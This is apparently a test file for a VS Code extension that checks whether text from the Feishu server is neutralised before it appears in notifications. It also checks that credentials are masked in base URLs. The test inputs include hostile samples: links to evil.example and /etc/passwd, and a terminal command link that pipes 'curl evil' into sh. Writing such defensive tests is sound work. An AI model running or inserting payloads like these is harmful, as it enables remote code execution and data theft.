import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, test } from 'node:test';
import { displayBaseUrl } from '../../src/feishu/baseUrl';
import { inertText } from '../../src/model/text/inertText';
import { formatOnly as t } from '../../src/feishu/translate';

// VS Code's notification renderer turns [label](target) into a link for these targets.
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

describe('text from outside in notifications (#10.7)', () => {
  test('server text with markdown links forms no link, and every character stays readable', () => {
    const hostile = [
      'param is invalid [click here](command:feishuHire.credentials.signOut)',
      '[open](https://evil.example/steal) and [x]( command:workbench.action.reloadWindow)',
      '[nested [label]](file:///etc/passwd)',
    ];
    for (const text of hostile) {
      const safe = inertText(text);
      assert.equal(safe.match(NOTIFICATION_LINK), null, safe);
      assert.ok(safe.includes('command:') || safe.includes('https://') || safe.includes('file:'), 'the target is still shown as text');
    }
  });

  test('bidirectional overrides and control characters are dropped; long text is cut', () => {
    assert.equal(inertText('abc\u202Etxt.exe\u0007'), 'abctxt.exe');
    assert.equal(inertText('x'.repeat(5000)).length, 601);
    assert.equal(inertText('飞书 error 中文 stays'), '飞书 error 中文 stays');
  });
});

describe('every notification through one helper (#18.2)', () => {
  const root = join(__dirname, '..', '..', '..');
  const sources = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap(e => e.isDirectory() ? sources(join(dir, e.name)) : e.name.endsWith('.ts') ? [join(dir, e.name)] : []);

  test('no file but src/notifications.ts (which passes message and detail through inertText) calls window.show…Message', () => {
    const bare = sources(join(root, 'src')).map(file => relative(root, file)).filter(file =>
      file !== join('src', 'notifications.ts') && /show(Information|Warning|Error)Message/.test(readFileSync(join(root, file), 'utf8'))
    );
    assert.deepEqual(bare, [], 'bare calls: their text reaches VS Code unescaped');
  });

  test('a record ID or interviewer name written as a command link stays text in the messages that carry them', () => {
    const hostile = '[Re-authenticate](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    const messages = [
      t('Record {0} is no longer in application {1}. Refresh the views.', hostile, '6100000000000000001'),
      t('The service did not say which application record {0} belongs to, so it cannot be shown in the tree.', hostile),
      t('{0} no longer owes feedback. Refresh to update the view.', hostile),
    ];
    for (const message of messages) {
      const safe = inertText(message);
      assert.equal(safe.match(NOTIFICATION_LINK), null, safe);
      assert.ok(safe.includes('Re-authenticate') && safe.includes('command:workbench.action.terminal.sendSequence'), 'still readable');
    }
  });
});

describe('base URLs in logs and messages (#10.8)', () => {
  test('a password in something that is not an http(s) URL is masked too', () => {
    for (const input of ['user:hunter2@not a url', 'ftp://user:hunter2@host/', 'mailto:hunter2@x']) {
      assert.ok(!displayBaseUrl(input).includes('hunter2'), displayBaseUrl(input));
    }
  });
});
